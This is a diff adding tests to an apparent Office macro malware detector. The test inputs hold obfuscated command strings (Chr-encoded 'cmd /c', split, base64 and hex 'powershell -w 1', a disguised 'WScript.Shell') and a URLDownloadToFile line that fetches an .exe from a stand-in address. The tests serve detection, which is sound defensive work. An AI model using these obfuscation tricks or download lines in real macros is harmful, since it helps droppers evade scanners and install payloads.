@@ -149,6 +149,69 @@ def test_much_evidence_is_cut_and_counted() -> None:
     assert finding.evidence.endswith("; and 6 more")
 
 
+class TestWhatStringsComeTo:
+    @pytest.mark.parametrize(
+        "statement",
+        [
+            'x = Chr(99) & Chr(109) & Chr(100) & " /c " & y',
+            'x = "pow" & "ersh" & "ell -w 1"',
+            'x = Replace("WScrQQipt.ShQQell", "QQ", "")',
+            'x = "pow"\nx = x & "ersh"\nx = x & "ell -w 1"',
+            'x = "cABvAHcAZQByAHMAaABlAGwAbAAgAC0AdwAgADEA"',
+            'x = "706f7765727368656c6c202d772031"',
+            'x = Chr(100 - 1) & Chr(&H6D) & Chr(50 + 50) & " /c "',
+        ],
+        ids=["numbers", "pieces", "replaced", "grown", "base64", "hexadecimal", "sums"],
+    )
+    def test_a_command_in_disguise_is_a_command(self, statement: str) -> None:
+        assert judged(opened(statement)).code == "macro.dropper"
+
+    def test_evidence_says_what_they_come_to(self) -> None:
+        finding = judged(opened('CreateObject Replace("WScrQQipt.ShQQell", "QQ", "")'))
+
+        assert finding.evidence.endswith("= WScript.Shell")
+
+    def test_evidence_names_the_addresses(self) -> None:
+        source = opened('u = "http://192.0.2.1/" & "a.exe"\nURLDownloadToFile 0, u, f, 0, 0')
+
+        assert judged(source).evidence.endswith(
+            "addresses: hxxp[:]//192.0.2.1/, hxxp[:]//192.0.2.1/a.exe"
+        )
+
+    @pytest.mark.parametrize(
+        "statement",
+        [
+            'x = "Bonjour " & nom & ", votre rendez-vous"',
+            "x = Chr(13) & Chr(10)",
+            'MsgBox "Le commandant" & " et le shell"',
+            'x = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdef"',
+            'x = "0123456789abcdef0123456789abcdef"',
+        ],
+    )
+    def test_everyday_strings_come_to_nothing(self, statement: str) -> None:
+        assert judged(opened(statement)).code == "macro.autoexec"
+
+
+class TestCompiledFormWithoutSource:
+    @pytest.mark.parametrize(("source", "lines"), [("", 3), ("Sub A()\nEnd Sub\n", 40)])
+    def test_source_that_was_taken_out_is_malicious(self, source: str, lines: int) -> None:
+        found = [
+            seen
+            for seen in judge(office.compiled_project(source, lines))
+            if isinstance(seen, Finding)
+        ]
+        (stomped,) = [finding for finding in found if finding.code == "macro.stomped"]
+
+        assert stomped.level is Level.MALICIOUS
+        assert stomped.evidence.startswith(f"ThisDocument: {lines} compiled lines, ")
+
+    @pytest.mark.parametrize("lines", [0, 2, 5])
+    def test_both_forms_of_one_macro_are_honest(self, lines: int) -> None:
+        data = office.compiled_project("Sub A()\n    x = 1\nEnd Sub\n", lines)
+
+        assert [seen.code for seen in judge(data) if isinstance(seen, Finding)] == ["macro.present"]
+
+
 @pytest.mark.parametrize("deflated", [True, False])
 def test_the_macros_of_a_presentation_are_judged(*, deflated: bool) -> None:
     data = office.presentation(office.project(opened('Shell "calc"')), deflated=deflated)
